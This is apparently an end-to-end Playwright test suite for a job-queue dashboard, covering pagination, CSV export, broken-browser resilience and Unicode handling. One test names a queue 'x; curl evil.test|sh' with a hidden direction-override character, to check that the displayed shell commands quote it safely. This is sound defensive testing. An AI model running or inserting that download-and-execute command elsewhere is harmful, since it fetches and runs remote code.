"""What is easily lost: the place in a list, a file that was asked for, a browser that is broken."""

import csv
import io
import re
import time

import pytest
from playwright.sync_api import expect

from support import hostile
from support.browser import PLACES
from support.sample import job_id
from support.waiting import wait_until

UNSEEN = "\u202e"


def test_the_place_in_a_list_outlives_what_is_opened_over_it(site, screen):
    shown = screen(site(), "jobs")
    page = shown.page
    newest = shown.rows().first.get_by_role("link").first.get_attribute("href")
    page.get_by_role("button", name="Older").click()
    page.get_by_text("Page 2").wait_for()
    shown.settle()
    shown.rows().first.get_by_role("link").first.click()
    page.get_by_role("dialog", name="Job").wait_for()
    page.keyboard.press("Escape")
    page.get_by_role("dialog", name="Job").wait_for(state="detached")
    assert page.get_by_text("Page 2").is_visible()
    page.get_by_role("button", name="Newer").click()
    expect(shown.rows().first.get_by_role("link").first).to_have_attribute("href", newest)
    assert page.get_by_role("button", name="Newest").is_disabled()


def test_a_link_to_an_older_page_leads_to_the_newest(site, screen):
    shown = screen(site(), "jobs")
    shown.page.get_by_role("button", name="Older").click()
    shown.page.wait_for_url(lambda url: "cursor" in url)
    other = shown.page.context.new_page()
    other.goto(shown.page.url)
    other.get_by_role("button", name="Newest").click()
    other.wait_for_url(lambda url: "cursor" not in url)
    other.close()


OVER_TYPES = """(job) => {
    history.pushState({ over: 'types?sort=Queued' }, '', 'jobs/' + job);
    dispatchEvent(new PopStateEvent('popstate'));
}"""


def test_the_order_of_a_list_outlives_what_is_opened_over_it(site, screen):
    shown = screen(site(), "types?sort=Queued")
    head = shown.page.locator("main th[aria-sort]")
    before = (head.inner_text(), head.get_attribute("aria-sort"))
    shown.page.evaluate(OVER_TYPES, job_id(1))
    shown.page.get_by_role("dialog", name="Job").wait_for()
    assert (head.inner_text(), head.get_attribute("aria-sort")) == before
    assert before[1] in ("ascending", "descending")


def test_jobs_are_exported_as_a_file(site, screen):
    here = site()
    shown = screen(here, "jobs?filter=status:dead")
    shown.page.locator("summary").filter(has_text="Export").click()
    with shown.page.expect_download() as coming:
        shown.page.get_by_role("link", name="CSV").click()
    file = coming.value
    assert file.suggested_filename.endswith(".csv")
    with open(file.path(), newline="", encoding="utf-8-sig") as text:
        rows = list(csv.DictReader(io.StringIO(text.read())))
    dead = here.database.value("SELECT count(*) FROM soniq_dead_letter_jobs")
    assert len(rows) == dead > 0 and {row["status"] for row in rows} == {"dead_letter"}


def test_a_verdict_leads_to_its_rows(site, screen):
    here = site()
    here.database.execute("UPDATE soniq_workers SET status = 'stopped'")
    shown = screen(here)
    verdict = shown.page.locator(".verdict-bad").first
    verdict.get_by_role("link", name="Show").click()
    shown.page.get_by_role("heading", name="Jobs", level=1).wait_for()
    shown.rows().first.wait_for()
    assert "status%3Aready" in shown.page.url


def test_a_verdict_about_workers_leads_to_the_silent_ones(site, screen):
    here = site()
    here.database.execute(
        "INSERT INTO soniq_workers (id, hostname, pid, status, last_heartbeat, started_at)"
        " SELECT gen_random_uuid(), 'fine-' || n, n, 'active', now(), now()"
        " FROM generate_series(1, 30) n"
    )
    shown = screen(here)
    verdict = shown.page.locator(".verdict", has_text="gone silent")
    verdict.get_by_role("link", name="Show").click()
    shown.page.get_by_role("heading", name="Workers", level=1).wait_for()
    expect(shown.rows().first).to_contain_text("host-2")
    expect(shown.rows().first).to_contain_text("Stale")


BROKEN = """
for (const name of ['localStorage', 'sessionStorage'])
    Object.defineProperty(window, name, {
        get() { throw new DOMException('no', 'SecurityError'); },
    });
const now = Date.now;
Date.now = () => now() + 10 * 365 * 86400 * 1000;
Intl.DateTimeFormat.prototype.resolvedOptions = () => ({ timeZone: 'No/Where', locale: 'xx' });
"""


def test_a_broken_browser_sees_all_of_it(site, screen, context):
    """No storage, a clock that is ten years ahead, a zone that there is not."""
    context.add_init_script(BROKEN)
    shown = screen(site())
    for place in [*PLACES, f"jobs/{job_id(1)}"]:
        shown.open(place)
        assert shown.page.locator("main h1").first.inner_text() != "", place
    # Ages go by the server's clock.
    shown.open("workers")
    assert "10 y" not in shown.page.locator("main").inner_text()


def test_what_is_on_screen_is_greyed_when_it_is_old(site, screen):
    here = site()
    shown = screen(here, "queues")
    shown.rows().first.wait_for()
    assert shown.page.locator(".shown-stale").count() == 0
    here.dashboard.stop()
    shown.page.locator(".banner").wait_for()
    shown.page.locator(".shown-stale").first.wait_for()


def test_a_queue_that_is_named_like_a_command_is_one_word(site, screen):
    here = site()
    name = "x; curl evil.test|sh " + UNSEEN
    here.database.execute("UPDATE soniq_jobs SET queue = %s WHERE id = %s", name, job_id(4))
    here.database.execute("UPDATE soniq_workers SET status = 'stopped'")
    shown = screen(here, "queues")
    shown.row_of("curl evil.test").first.get_by_role("link").first.click()
    command = shown.page.locator("main pre.command:visible").inner_text()
    assert command == r"soniq worker --queues $'x; curl evil.test|sh \u202e'"
    shown.page.locator("summary").filter(has_text="Export").click()
    command = shown.page.get_by_label("the timeline by the command line").inner_text()
    assert command == r"soniq timeline --hours 24 --queue $'x; curl evil.test|sh \u202e'"


def test_a_setting_of_any_length_stays_in_the_page(site, screen):
    words = ",".join(f"word{n}" for n in range(200))
    shown = screen(site(dashboard_hidden_keys=words), "system")
    for width in (1280, 360):
        shown.page.set_viewport_size({"width": width, "height": 800})
        shown.page.get_by_text("word199").first.wait_for(state="attached")
        assert shown.fits(), width


@pytest.mark.parametrize("kind", ("postgresql", "sqlite"))
def test_nothing_hides_what_rows_hold(site, screen, samples, kind):
    """What turns the direction of writing is written as its number, in whatever it stands."""
    database = samples.copy(kind)
    mark = "%s" if kind == "postgresql" else "?"
    database.execute(f"UPDATE soniq_dead_letter_jobs SET queue = {mark}", f"a{UNSEEN}b")
    shown = screen(site(database=database, write=True), "dead-letter?view=list")
    page = shown.page
    shown.rows().first.get_by_role("button", name="Replay").click(force=True)
    page.locator("dialog").get_by_text("is enqueued").wait_for()
    assert UNSEEN not in page.locator("dialog").inner_text()
    page.keyboard.press("Escape")
    (hostile.fill if kind == "postgresql" else hostile.fill_sqlite)(database)
    narrow = ("schedules", "queues", "workers", "types")
    for width, places in ((1280, [*PLACES, "dead-letter?view=list"]), (360, narrow)):
        page.set_viewport_size({"width": width, "height": 800})
        for place in places:
            shown.open(place)
            assert UNSEEN not in page.locator("body").inner_text(), place


@pytest.mark.parametrize("kind", ("postgresql", "sqlite"))
def test_a_chart_that_is_chosen_stands_in_the_address(site, screen, kind):
    here = site(kind)
    shown = screen(here, "queues/mail?range=7d")
    page = shown.page

    def button(name: str):
        return page.locator("main").get_by_role("button", name=name, exact=True)

    button("Times").click()
    button("As a table").click()
    page.wait_for_url(lambda url: "chart=times" in url and "as=table" in url)
    assert "range=7d" in page.url
    shown.open(page.url.removeprefix(here.base))
    expect(button("Times")).to_have_attribute("aria-pressed", "true")
    expect(button("As a table")).to_have_attribute("aria-pressed", "true")
    # The first is the usual one, and needs no word.
    button("Outcome").click()
    button("As a table").click()
    page.wait_for_url(lambda url: "chart" not in url and "as=" not in url)


RUN = "UPDATE soniq_jobs SET status = %s, attempts = 1, updated_at = %s WHERE id = %s"


@pytest.mark.parametrize("place", ("queues/mail", "types/mail.send"))
def test_percentiles_are_of_the_range(site, screen, place):
    here = site("sqlite")
    page, name = place.split("/")
    column = "queue" if page == "queues" else "job_name"
    job = here.database.value(
        f"SELECT id FROM soniq_jobs WHERE {column} = '{name}' AND status = 'queued' LIMIT 1"
    )
    now = time.time_ns() // 1000
    for status, at in (("processing", now - 4_000_000), ("done", now)):
        here.database.execute(RUN, status, at, job)

    def run_of(hours: int) -> float | None:
        query = {"bucket": "all", "hours": hours, column: name}
        (whole,) = here.dashboard.get("/api/jobs/timeline", **query)
        return whole["run_p50_ms"]

    wait_until(lambda: run_of(24), "it was folded")
    shown = screen(here, place)
    card = shown.page.get_by_role("region", name="How long")
    for word, hours in (("24 h", 24), ("7 d", 168), ("15 m", 1)):
        shown.page.get_by_role("button", name=word, exact=True).click()
        expect(card).to_contain_text(f"ended in the last {'1 h' if hours == 1 else word}")
        assert 3_800 < run_of(hours) < 4_200
        cells = card.get_by_role("row", name="Run").first.get_by_role("cell")
        expect(cells.first).to_have_text(re.compile(r"^[34]\.?\d* s$"))
